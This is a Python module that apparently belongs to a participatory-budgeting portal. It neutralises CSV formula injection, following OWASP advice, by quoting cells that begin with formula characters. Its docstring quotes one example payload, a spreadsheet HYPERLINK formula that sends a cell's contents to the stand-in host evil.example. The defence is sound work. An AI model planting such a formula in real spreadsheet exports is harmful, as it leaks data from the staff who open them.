"""CSV that a spreadsheet opens as data, never as formulas (specification §10).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is read by Excel, LibreOffice and Google Sheets as a
formula: a resident's answer ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run
on the computer of the staff member who opens the export. Following OWASP's advice on CSV
injection, such a cell gets a single quote in front, which spreadsheets show as text and do
not display; the ``csv`` module quotes the cell when it holds a separator or a quote, so a
cell cannot spill into the next one.

Every CSV the portal writes for people to open goes through ``csv_writer`` (a drop-in for
``csv.writer``). Numbers are left alone: only text is neutralised, so ``-3`` written as the
number -3 stays a number. Not covered: Pabulib ``.pb`` files, an open-data format read by
tallying programs, which must round-trip byte for byte (``budgeting/pabulib/writing.py``).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value``, with a leading single quote when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in row]


class SafeCsvWriter:
    """``csv.writer`` whose cells go through ``csv_cell``."""

    def __init__(self, file, **kwargs) -> None:
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._writer.writerow(csv_row(row))


def csv_writer(file, **kwargs) -> SafeCsvWriter:
    """A CSV writer for files people open in a spreadsheet (``csv.writer``'s arguments)."""
    return SafeCsvWriter(file, **kwargs)
